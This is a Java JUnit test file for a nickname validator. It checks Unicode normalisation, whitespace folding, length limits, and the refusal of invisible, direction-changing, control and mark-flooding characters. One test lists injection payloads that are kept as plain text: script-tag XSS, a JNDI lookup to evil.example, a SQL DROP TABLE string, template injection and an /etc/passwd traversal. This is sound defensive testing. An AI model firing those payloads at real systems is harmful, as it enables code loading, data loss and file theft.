package dev.minipassport.profile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.minipassport.dossier.Nickname;
import dev.minipassport.profile.Judged.Accepted;
import dev.minipassport.profile.Judged.Flaw;
import dev.minipassport.profile.Judged.Refused;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EmptySource;
import org.junit.jupiter.params.provider.ValueSource;

/// Characters that cannot be told apart on a page are spelt by their numbers: `U+200D` is one.
final class NicknameRuleTest {

  private static String spelt(String text) {
    var characters = new StringBuilder();
    for (String part : text.split("(?=<)|(?<=>)")) {
      if (part.startsWith("<") && part.endsWith(">")) {
        for (String number : part.substring(1, part.length() - 1).split(" ")) {
          characters.appendCodePoint(Integer.parseInt(number, 16));
        }
      } else {
        characters.append(part);
      }
    }
    return characters.toString();
  }

  private static void kept(String expected, String typed) {
    assertThat(NicknameRule.judge(typed)).isEqualTo(new Accepted<>(new Nickname(expected)));
  }

  private static void refused(Flaw why, String typed) {
    assertThat(NicknameRule.judge(typed)).isEqualTo(new Refused<>(why));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Alice",
        "小明",
        "小明Alice42",
        "محمد",
        "דוד",
        "Привет",
        "Ελένη",
        "さくら",
        "서연",
        "José María",
        "O'Brien-Smith",
        "a",
        "😀",
        "ღ✿ღ",
        "A·B",
        "（小明）",
        "42",
        "-",
        "محمد小明Alice",
      })
  void anyScriptIsKeptAsItWasTyped(String name) {
    kept(name, name);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "'; DROP TABLE users; --",
        "\" onmouseover=\"alert(1)",
        "%n%s%00",
        "{{7*7}}",
        "../../etc/passwd",
        "null",
        "微信用户!",
        "=1+1",
        "\\n\\u0000",
      })
  void whatSomeProgramWouldRunIsTextHere(String name) {
    kept(name, name);
  }

  @ParameterizedTest
  @CsvSource({
    "e<301>,            <E9>",
    "o<302 301>,        <1ED1>",
    "o<301 302>,        <F3 302>",
    "<1112 1161 11AB>,  <D55C>",
    "<D558 11AB>,       <D55C>",
    "<212B>,            <C5>",
    "<2126>,            <3A9>",
    "<212A>,            K",
    "<F900>,            <8C48>",
    "<2F800>,           <4E3D>",
    "<FB2A>,            <5E9 5C1>",
    "<FF21 FF22>,       <FF21 FF22>",
    "<FB01>,            <FB01>",
  })
  void oneNameHasOneSpelling(String typed, String expected) {
    kept(spelt(expected), spelt(typed));
  }

  @ParameterizedTest
  @CsvSource({
    "'  Alice',             Alice",
    "'Alice   ',            Alice",
    "'Alice   Liddell',     Alice Liddell",
    "Alice<A0>Liddell,      Alice Liddell",
    "Alice<3000>Liddell,    Alice Liddell",
    "<3000>小明<3000>,       小明",
    "<2003 2009 202F>小明,   小明",
    "a<2000 A0 20 3000>b,   a b",
    "a<1680>b<205F>c,       a b c",
  })
  void whiteSpaceIsFolded(String typed, String expected) {
    kept(expected, spelt(typed));
  }

  @ParameterizedTest
  @EmptySource
  @ValueSource(strings = {" ", "     ", "\u00A0", "\u3000\u3000", "\u2003 \u2009"})
  void nothingButWhiteSpaceIsNoName(String typed) {
    refused(Flaw.EMPTY, typed);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a", "明", "𠮷", "😀", "𝒜"})
  void sixtyFourCharactersAreCountedAsUnicodeDoes(String one) {
    kept(one.repeat(64), one.repeat(64));
    refused(Flaw.TOO_LONG, one.repeat(65));
  }

  @Test
  void lengthIsThatOfWhatIsKept() {
    kept("\u00E9".repeat(64), "e\u0301".repeat(64));
    kept("a b", "a" + " ".repeat(200) + "b");
    kept("a".repeat(64), " ".repeat(10) + "a".repeat(64) + " ");
    refused(Flaw.TOO_LONG, "a".repeat(100_000));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"200B", "FEFF", "2060", "2061", "2064", "AD", "180E", "206A", "FFF9", "E0001"})
  void whatHasNoWidthIsRefused(String number) {
    refused(Flaw.INVISIBLE, spelt("Ali<" + number + ">ce"));
    refused(Flaw.INVISIBLE, spelt("<" + number + ">"));
    refused(Flaw.INVISIBLE, spelt("小明<" + number + ">"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<200D>Alice",
        "Alice<200D>",
        "Al<200D>ice",
        "Al<200C>ice",
        "小<200D>明",
        "小<200C>明",
        "<200C>می",
        "می<200C>",
        "می<200C 200C>خواهم",
        "می<200C>a",
        "<200D>😀",
        "😀<200D>",
        "😀<200D>a",
        "a<200D>😀",
        "😀<200D 200D>😀",
      })
  void aJoinerThatJoinsNothingIsRefused(String typed) {
    refused(Flaw.INVISIBLE, spelt(typed));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "می<200C>خواهم",
        "نمی<200C>دانم",
        "ශ<DCA 200D>රී",
        "क<94D 200D>ष",
        "क<94D 200C>ष",
        "ক<9CD 200D>য",
        "ന<D4D 200C>മ",
      })
  void joinersShapeTheWordsOfSomeScripts(String typed) {
    kept(spelt(typed), spelt(typed));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<1F468 200D 1F469 200D 1F467 200D 1F466>",
        "<1F469 1F3FD 200D 1F4BB>",
        "<1F3F3 FE0F 200D 1F308>",
        "<2764 FE0F 200D 1F525>",
        "<1F3C3 200D 2642 FE0F>",
        "<1F575 1F3FD 200D 2640 FE0F>",
        "<1FAF1 1F3FB 200D 1FAF2 1F3FF>",
        "<1F469 200D 1F9B0>",
        "<31 FE0F 20E3>",
        "<23 FE0F 20E3>",
        "<31 20E3>",
        "<1F1E8 1F1F3>",
        "<1F3F4 E0067 E0062 E0065 E006E E0067 E007F>",
        "<2764 FE0F>",
        "<2764 FE0E>",
        "<A9 FE0F>",
        "<203C FE0F>",
        "<44D 1F44D 1F3FD>",
        "<2728>小明<2728>",
      })
  void emojiMadeOfSeveralCharactersAreKept(String typed) {
    kept(spelt(typed), spelt(typed));
  }

  @Test
  void emojiOfAnUnicodeToComeAreKept() {
    kept(spelt("<1FAFF>"), spelt("<1FAFF>"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<E0067>",
        "Alice<E0068 E0069>",
        "<E007F>",
        "😀<E0067 E0062 E007F>",
        "<1F3F4 E0067 E0062 E0065>",
        "<1F3F4 E007F>",
        "<1F3F4 E0067 E0062 E0065 E006E E0067 E0067 E0067 E007F>",
        "<1F3F4 E0067 E0062 E0020 E007F>",
        "<1F3F4 E0067 E0062 E0065 E006E E0067 E007F E007F>",
      })
  void tagsThatSpellNoFlagAreRefused(String typed) {
    refused(Flaw.INVISIBLE, spelt(typed));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Ali<FE0F>ce",
        "Ali<FE0E>ce",
        "Ali<FE00>ce",
        "Ali<E0100>ce",
        "Ali<180B>ce",
        "小明<FE0F>",
        "1<FE0F>2",
        "1<FE0F>",
        "❤<FE0F FE0F>",
        "<FE0F>",
        "<FE0F>a",
        "葛<E0100 E0101>",
      })
  void aVariationOfNothingIsRefused(String typed) {
    refused(Flaw.INVISIBLE, spelt(typed));
  }

  @ParameterizedTest
  @ValueSource(strings = {"葛<E0100>城", "<845B FE00>", "ᠠ<180B>ᠨ"})
  void writtenVariantsOfALetterAreKept(String typed) {
    kept(spelt(typed), spelt(typed));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "202A", "202B", "202C", "202D", "202E", "2066", "2067", "2068", "2069", "200E", "200F",
        "61C"
      })
  void whatTurnsTheDirectionOfWritingIsRefused(String number) {
    refused(Flaw.DIRECTION, spelt("Ali<" + number + ">ce"));
    refused(Flaw.DIRECTION, spelt("<" + number + ">محمد"));
    refused(Flaw.DIRECTION, spelt("<" + number + ">"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"0", "7", "8", "9", "A", "B", "D", "1B", "7F", "85", "9B", "2028", "2029"})
  void controlCharactersAndLineBreaksAreRefused(String number) {
    refused(Flaw.CONTROL_CHARACTER, spelt("Ali<" + number + ">ce"));
    refused(Flaw.CONTROL_CHARACTER, spelt("Alice<" + number + ">"));
    refused(Flaw.CONTROL_CHARACTER, spelt("<" + number + ">"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "D800", "DBFF", "DC00", "DFFF", "E000", "F8FF", "F0000", "10FFFD", "FFFE", "FFFF", "1FFFE",
        "378", "E0FFF", "FDD0"
      })
  void whatIsNoCharacterIsRefused(String number) {
    refused(Flaw.NOT_A_CHARACTER, spelt("Ali<" + number + ">ce"));
    refused(Flaw.NOT_A_CHARACTER, spelt("<" + number + ">"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "3164", "115F", "1160", "2800", "FFA0", "34F", "17B4", "17B5", "1D159", "13441", "16FE4"
      })
  void blanksThatPassForLettersAreRefused(String number) {
    refused(Flaw.INVISIBLE, spelt("Ali<" + number + ">ce"));
    refused(Flaw.INVISIBLE, spelt("<" + number + ">"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"<301>", "<301 302>", "<20DD>", "<A0 301>", "<301 20 302>"})
  void marksAloneShowNothing(String typed) {
    refused(Flaw.INVISIBLE, spelt(typed));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Z<300 301 302 303>algo",
        "Z<489 489 489 489>",
        "a<300 301 302 303 304 305 306 307>",
        "😀<20DD 20DD 20DD 20DD>",
        "ก<E49 E49 E49 E49 E49>",
      })
  void lettersBuriedInMarksAreRefused(String typed) {
    refused(Flaw.TOO_MANY_MARKS, spelt(typed));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Nguyễn Thị Ngọc Ánh",
        "ที่รัก",
        "กี่ผู้ใหญ่",
        "שָׁלוֹם",
        "שּׁוּבָה",
        "مُحَمَّدٌ",
        "ٱلرَّحْمَٰنِ",
        "क्षत्रिय",
        "ကျွန်ုပ်",
        "བསྒྲུབས",
        "ស្ត្រី",
        "ז׳בוטינסקי",
        "٢٠<6DD>",
      })
  void languagesThatWriteWithMarksAreKept(String name) {
    String typed = spelt(name);

    assertThat(NicknameRule.judge(typed)).isInstanceOf(Accepted.class);
  }

  @ParameterizedTest
  @ValueSource(strings = {"e<301>", "a<3000>b", "<1112 1161 11AB>", "می<200C>خواهم", "  x  y "})
  void whatWasKeptIsKeptAgainAsItIs(String typed) {
    String first = ((Accepted<Nickname>) NicknameRule.judge(spelt(typed))).value().text();

    kept(first, first);
  }
}
